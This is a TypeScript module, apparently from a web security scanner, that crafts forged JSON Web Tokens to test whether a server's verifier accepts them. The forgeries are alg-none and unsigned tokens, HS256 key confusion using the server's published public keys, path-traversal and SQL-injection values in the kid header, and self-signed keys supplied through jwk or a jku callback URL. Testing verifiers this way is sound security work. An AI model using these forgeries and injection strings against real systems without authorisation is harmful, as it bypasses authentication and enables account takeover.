import { createPublicKey, createSign, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { encodePart, signHmac } from '../../identity/jwt.ts';
import type { Scan } from '../../scan.ts';
import type { TokenGround } from '../tokens.ts';

export interface Forgery {
  readonly variant: string;
  readonly title: string;
  readonly name: string;
  readonly token: string;
}

/** Tokens with the claims of the true one that no correct verifier believes. */
export async function forgeries(scan: Scan, ground: TokenGround): Promise<Forgery[]> {
  return [...unsigned(ground), ...keyConfusion(ground, await publicKeys(scan)), ...keyIds(ground), ...ownKeys(scan, ground)];
}

function unsigned({ jwt }: TokenGround): Forgery[] {
  const payload = encodePart(jwt.payload);
  const none = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
    variant: 'none',
    title: 'Unsigned tokens (alg none) are accepted',
    name: `alg ${alg}`,
    token: `${encodePart({ ...jwt.header, alg })}.${payload}.`,
  }));
  return [
    ...none,
    { variant: 'stripped', title: 'Tokens without a signature are accepted', name: 'no signature', token: `${jwt.signed}.` },
  ];
}

/** Public keys that the server publishes or the configuration names, as PEM texts. */
async function publicKeys(scan: Scan): Promise<string[]> {
  const given = scan.parts.jwtPublicKey === null ? [] : [scan.parts.jwtPublicKey];
  const keys: string[] = [];
  const paths = ['/.well-known/jwks.json', '/jwks.json', '/jwks', '/oauth/jwks', '/auth/jwks.json', '/api/.well-known/jwks.json'];
  const described = scan.operations
    .filter((one) => one.method === 'GET' && /jwks|public-?key/i.test(one.path) && !one.path.includes('{'))
    .map((one) => `${scan.parts.basePath}${one.path}`);
  for (const target of new Set([...described, ...paths])) {
    const exchange = await scan.send({ method: 'GET', target, headers: {}, body: null });
    const set = exchange.json as { keys?: unknown } | undefined;
    if (exchange.status === 200 && Array.isArray(set?.keys)) keys.push(...set.keys.flatMap(pemTexts));
    else if (exchange.status === 200 && exchange.body.startsWith('-----BEGIN PUBLIC KEY')) keys.push(exchange.body);
    if (keys.length > 0) break;
  }
  return [...given, ...keys];
}

/** A verifier may hold the key as any of these texts. */
function pemTexts(jwk: unknown): string[] {
  try {
    const key = createPublicKey({ key: jwk as Parameters<typeof createPublicKey>[0] & object, format: 'jwk' } as never);
    const spki = key.export({ type: 'spki', format: 'pem' }) as string;
    const pkcs1 = key.asymmetricKeyType === 'rsa' ? [key.export({ type: 'pkcs1', format: 'pem' }) as string] : [];
    return [spki, spki.trimEnd(), ...pkcs1];
  } catch {
    return [];
  }
}

function keyConfusion({ jwt }: TokenGround, keys: readonly string[]): Forgery[] {
  if (!/^(RS|PS|ES)/.test(String(jwt.header.alg))) return [];
  return keys.map((key) => ({
    variant: 'key-confusion',
    title: 'Tokens signed by HMAC with the public key are accepted',
    name: 'HS256 and the public key as secret',
    token: signHmac({ ...jwt.header, alg: 'HS256' }, jwt.payload, key),
  }));
}

function keyIds({ jwt }: TokenGround): Forgery[] {
  const with_ = (kid: string, secret: string, name: string): Forgery => ({
    variant: 'kid',
    title: 'The key id of a token is used as a path or in SQL',
    name,
    token: signHmac({ ...jwt.header, alg: 'HS256', kid }, jwt.payload, secret),
  });
  return [
    with_('../../../../../../../../dev/null', '', 'kid of an empty file'),
    with_('/dev/null', '', 'kid of an empty file'),
    with_("sallyport' UNION SELECT 'sallyport-key' -- ", 'sallyport-key', 'kid that selects a known key'),
  ];
}

/** Keys of our own, brought along by the token. */
function ownKeys(scan: Scan, { jwt }: TokenGround): Forgery[] {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'sallyport', use: 'sig', alg: 'RS256' };
  const embedded: Forgery = {
    variant: 'jwk',
    title: 'A key inside the token is trusted',
    name: 'a key of its own in jwk',
    token: signRsa({ ...jwt.header, alg: 'RS256', kid: 'sallyport', jwk }, jwt.payload, privateKey),
  };
  const { callbacks } = scan.parts;
  if (callbacks === null) return [embedded];
  const nonce = `jku${scan.random.hex(12)}`;
  callbacks.serve(nonce, 'application/json', JSON.stringify({ keys: [jwk] }));
  const jku: Forgery = {
    variant: 'jku',
    title: 'A key set named by the token is fetched and trusted',
    name: 'a key set of its own in jku',
    token: signRsa({ ...jwt.header, alg: 'RS256', kid: 'sallyport', jku: callbacks.url(nonce) }, jwt.payload, privateKey),
  };
  return [embedded, jku];
}

function signRsa(header: Readonly<Record<string, unknown>>, payload: unknown, key: KeyObject): string {
  const input = `${encodePart(header)}.${encodePart(payload)}`;
  return `${input}.${createSign('RSA-SHA256').update(input).sign(key).toString('base64url')}`;
}
